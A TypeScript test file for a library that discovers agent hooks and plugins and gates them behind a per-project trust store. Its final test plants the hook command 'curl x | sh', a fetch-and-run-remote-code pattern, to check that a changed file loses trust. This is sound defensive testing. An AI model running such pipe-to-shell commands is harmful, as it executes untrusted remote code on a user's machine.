import { existsSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { readTrustStore } from "@hookwire/trust/store";
import { describe, expect, it } from "vitest";
import { type DiscoverOptions, discoverAndLoadHooks, HOOK_FORMATS, trustProject } from "../src/index.js";
import { tempDir } from "./helpers/fixtures.js";

const bashHook = (command: string) =>
  JSON.stringify({ hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command }] }] } });

/** A project with a host's own `.myagent` hook and a Claude settings file, and a user with Codex and OpenCode hooks. */
async function world() {
  const root = await tempDir();
  const cwd = path.join(root, "project");
  const home = path.join(root, "home");
  const put = async (file: string, text: string) => {
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, text);
  };
  await put(path.join(cwd, ".myagent/hooks/guard.mjs"), "export default () => {};\n");
  await put(path.join(cwd, ".pi/hooks/audit.mjs"), "export default () => {};\n");
  await put(path.join(cwd, ".claude/settings.json"), bashHook("true"));
  await put(path.join(home, ".codex/hooks.json"), bashHook("echo user codex"));
  const imported = path.join(root, "opencode-imported");
  await put(
    path.join(home, ".config/opencode/plugin/user.js"),
    `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(imported)}, "");\nexport const P = async () => ({});\n`,
  );
  const base = { home, trustStore: path.join(root, "trust.json"), fsCache: false } satisfies DiscoverOptions;
  return { root, cwd, home, imported, base };
}

describe("hosts choose what they run", () => {
  it("loads only the host's own folders unless it asks: no other agent's user hooks, no OpenCode plugin imported", async () => {
    const { cwd, base, imported } = await world();
    const host: DiscoverOptions = { ...base, appDirs: [".myagent"], trust: "all" };
    const loaded = await discoverAndLoadHooks([], cwd, host);
    expect(loaded.discovered.map((entry) => path.relative(cwd, entry.item.path))).toEqual([
      ".myagent/hooks/guard.mjs",
    ]);
    expect(loaded.settings.files.filter((file) => file.exists)).toEqual([]);
    expect(existsSync(imported)).toBe(false);
  });

  it("loads the formats a host names, at the levels it names", async () => {
    const { cwd, base, imported } = await world();
    const loaded = await discoverAndLoadHooks([], cwd, {
      ...base,
      formats: ["hookwire", "claude", "codex:project", "opencode:project"],
      trust: "all",
    });
    expect(loaded.settings.handlers.map((h) => `${h.dialect} ${h.scope}`)).toEqual(["claude project"]);
    expect(existsSync(imported)).toBe(false);
    await expect(discoverAndLoadHooks([], cwd, { ...base, formats: ["claud" as "claude"] })).rejects.toThrow(
      'Unknown hook format "claud"; expected one of hookwire, claude, codex, gemini, copilot, cursor, opencode, optionally with :project or :user.',
    );
  });

  it("finds and trusts OpenCode plugins without their runtime, and fails each to load saying why", async () => {
    const { cwd, base, imported } = await world();
    await writeFile(path.join(cwd, "opencode.json"), JSON.stringify({ plugin: ["./p.ts"] }));
    await writeFile(path.join(cwd, "p.ts"), "export const P = async () => ({});\n");
    const options: DiscoverOptions = { ...base, formats: ["opencode"] };
    await trustProject(cwd, options);
    const loaded = await discoverAndLoadHooks([], cwd, options);
    expect(loaded.trust.trusted).toBe(true);
    expect(loaded.trust.items.join("\n")).toContain("p.ts");
    expect(loaded.hooks).toEqual([]);
    expect(loaded.errors.map((e) => e.error.message)).toMatchInlineSnapshot(`
      [
        "OpenCode plugin not loaded: \`~/.config/opencode/plugin/user.js\`: this host brings no runtime for OpenCode plugins (\`pluginRuntimes.opencode\` of discovery, from \`@hookwire/opencode-plugins\`).",
        "OpenCode plugin not loaded: \`p.ts\`: this host brings no runtime for OpenCode plugins (\`pluginRuntimes.opencode\` of discovery, from \`@hookwire/opencode-plugins\`).",
      ]
    `);
    expect(existsSync(imported)).toBe(false);
  });

  it("trusts a host's own discovery, and the host and the CLI keep a record each without untrusting the other", async () => {
    const { cwd, base } = await world();
    const host: DiscoverOptions = { ...base, appDirs: [".myagent"], trustCommand: "myagent trust" };
    const cli: DiscoverOptions = { ...base, formats: HOOK_FORMATS };
    const before = await discoverAndLoadHooks([], cwd, host);
    expect(before.skipped.map((item) => item.trustCommand)).toEqual(["myagent trust"]);
    await trustProject(cwd, host);
    expect((await discoverAndLoadHooks([], cwd, host)).trust.trusted).toBe(true);
    expect((await discoverAndLoadHooks([], cwd, cli)).trust.trusted).toBe(false);
    await trustProject(cwd, cli);
    expect((await discoverAndLoadHooks([], cwd, host)).trust.trusted).toBe(true);
    expect((await discoverAndLoadHooks([], cwd, cli)).trust.trusted).toBe(true);
    const records = (await readTrustStore(base.trustStore)).projects[cwd]!;
    expect(Object.keys(records).sort()).toEqual([
      "formats=hookwire,claude,codex,gemini,copilot,cursor,opencode;apps=.hookwire,.pi,.omp",
      "formats=hookwire;apps=.myagent",
    ]);
  });

  it("counts the CLI's trust for a host whose discovery the CLI's covers, until a file changes", async () => {
    const { cwd, base } = await world();
    await trustProject(cwd, { ...base, formats: HOOK_FORMATS });
    const host: DiscoverOptions = { ...base, formats: ["hookwire", "claude:project"] };
    expect((await discoverAndLoadHooks([], cwd, host)).trust.trusted).toBe(true);
    await writeFile(path.join(cwd, ".claude/settings.json"), bashHook("curl x | sh"));
    expect((await discoverAndLoadHooks([], cwd, host)).trust.trusted).toBe(false);
  });
});
